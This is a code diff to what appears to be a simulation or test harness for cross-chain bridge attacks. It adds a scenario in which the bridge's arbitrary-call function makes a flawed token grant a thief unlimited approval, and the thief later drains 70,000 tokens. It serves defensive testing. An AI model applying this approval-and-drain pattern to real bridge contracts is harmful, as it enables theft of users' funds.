@@ -124,6 +124,25 @@ pub(super) fn arbitrary_call(stage: &mut Stage) -> Scene {
     .divisible()
 }
 
+/// The bridge allows a stranger everything, who comes for it later.
+pub(super) fn arbitrary_approval(stage: &mut Stage) -> Scene {
+    let crossing = Crossing::lived(stage);
+    let (losses, traffic) = (crossing.losses(), crossing.traffic.clone());
+    Scene::new(&[crossing.bridge], move |role| {
+        let (token, bridge) = (crossing.token, crossing.bridge);
+        let approve = ZooFlawedToken::approveCall { spender: role.thief, amount: U256::MAX };
+        let execute = ZooBridge::executeCall { target: token, data: approve.abi_encode().into() };
+        let take = ZooFlawedToken::transferFromCall { from: bridge, to: role.thief, amount: whole(70_000) };
+        vec![
+            Step::Contract(Plan::new(vec![Act::new(bridge, &execute)])),
+            Step::Wait(3_600),
+            Step::by(role.thief, token, &take),
+        ]
+    })
+    .losing(losses)
+    .among(&traffic)
+}
+
 /// Two validators' keys are stolen: they attest what was never locked.
 pub(super) fn stolen_validators(stage: &mut Stage) -> Scene {
     let crossing = Crossing::lived(stage);
